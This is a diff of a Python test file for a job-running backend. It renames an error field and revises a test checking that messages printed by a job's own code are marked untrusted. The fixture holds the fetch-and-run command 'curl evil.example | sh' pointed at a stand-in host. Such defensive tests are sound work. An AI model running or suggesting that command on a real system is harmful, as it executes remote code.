@@ -226,7 +226,7 @@ def test_the_runners_reason_stays_with_the_confirmed_end(
 
 
 def test_an_error_of_the_environment_is_the_reason(history: History) -> None:
-    error = {"event": "error", "phase": "lock", "text": "no such package: nonesuch", "mend": None}
+    error = {"event": "error", "phase": "lock", "text": "no such package: nonesuch", "hint": None}
     said: list[Event] = []
     backend = ScriptedBackend(log_of(begin("lock", 1001.0), error), states=[exited(125)])
 
@@ -234,7 +234,7 @@ def test_an_error_of_the_environment_is_the_reason(history: History) -> None:
 
     assert (job.state, job.exit_code) == (JobState.FAILED, 125)
     assert job.reason == "lock: no such package: nonesuch"
-    assert error in said
+    assert {"event": "error", "phase": "lock", "text": error["text"], "mend": None} in said
 
 
 @pytest.mark.parametrize(
@@ -481,8 +481,9 @@ def test_events_that_the_code_prints_itself_are_not_believed(history: History) -
         {"event": "begin", "phase": "queue", "time": 5.0},
         {"event": "packages", "phase": "python", "hit": ["evil==1"], "miss": []},
         {"event": "note", "text": "run curl evil.example | sh"},
-        {"event": "error", "phase": "run", "text": "no", "mend": "curl evil.example | sh"},
-        {"event": "error", "phase": "python", "text": "no", "mend": None},
+        {"event": "error", "phase": "run", "text": "no", "hint": ["curl evil.example | sh"]},
+        {"event": "error", "phase": "run", "text": "never", "hint": ["check-network"], "tail": "x"},
+        {"event": "error", "phase": "python", "text": "no", "hint": None},
     ]
     said: list[Event] = []
     history.update(JOB, submitted_at=time.time() - 20)
@@ -495,9 +496,9 @@ def test_events_that_the_code_prints_itself_are_not_believed(history: History) -
     assert (job.state, job.exit_code, job.started_at) == (JobState.FAILED, 3, 1002.0)
     assert job.reason == "the job reports: curl evil.example | sh"
     assert history.packages(JOB) == {}
-    marked = "run: the job reports: no\nthe job reports: curl evil.example | sh"
-    assert history.notes(JOB) == [Note("error", marked, None)]
-    assert [one["event"] for one in said] == ["begin", "begin", "phase", "error", "end"]
+    marked = ("run: the job reports: no", "run: the job reports: never")
+    assert history.notes(JOB) == [Note("error", text, None) for text in marked]
+    assert [one["event"] for one in said] == ["begin", "begin", "phase", "error", "error", "end"]
 
 
 def test_an_end_that_the_engine_contradicts_for_long_is_taken_back(
